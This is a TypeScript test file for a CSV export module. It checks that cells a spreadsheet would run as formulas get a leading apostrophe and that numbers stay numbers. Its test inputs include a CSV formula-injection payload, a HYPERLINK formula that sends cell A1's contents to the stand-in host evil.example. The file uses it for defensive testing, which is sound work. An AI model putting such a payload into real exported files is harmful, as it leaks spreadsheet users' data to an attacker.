import assert from 'node:assert/strict';
import { it } from 'node:test';
import { toCsv } from './csv.ts';
import { tableCsv } from './sections.ts';

it('neutralises cells a spreadsheet would run as a formula, and keeps numbers as numbers', () => {
  const csv = toCsv([
    ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', '+44 1234', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '＝1'],
    [-5, 0, 12.5, null, 'Plain, with a comma', 'Say "hi"', 'two\nlines'],
  ]);
  assert.equal(
    csv,
    '\ufeff"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")",\'+44 1234,\'-1+1,\'@SUM(A1),\'\t=1,"\'\r=1",\'＝1\r\n' +
      '-5,0,12.5,,"Plain, with a comma","Say ""hi""","two\nlines"\r\n',
  );
});

it('report tables are written by the same writer', () => {
  const csv = tableCsv({
    name: 'by-team',
    caption: 'Complaints by team',
    head: ['Team', 'Number', '%'],
    formats: ['text', 'number', 'percent'],
    rows: [['=HYPERLINK("https://evil.example","x")', 3, 100]],
  });
  assert.equal(csv, '\ufeffTeam,Number,%\r\n"\'=HYPERLINK(""https://evil.example"",""x"")",3,100\r\n');
});
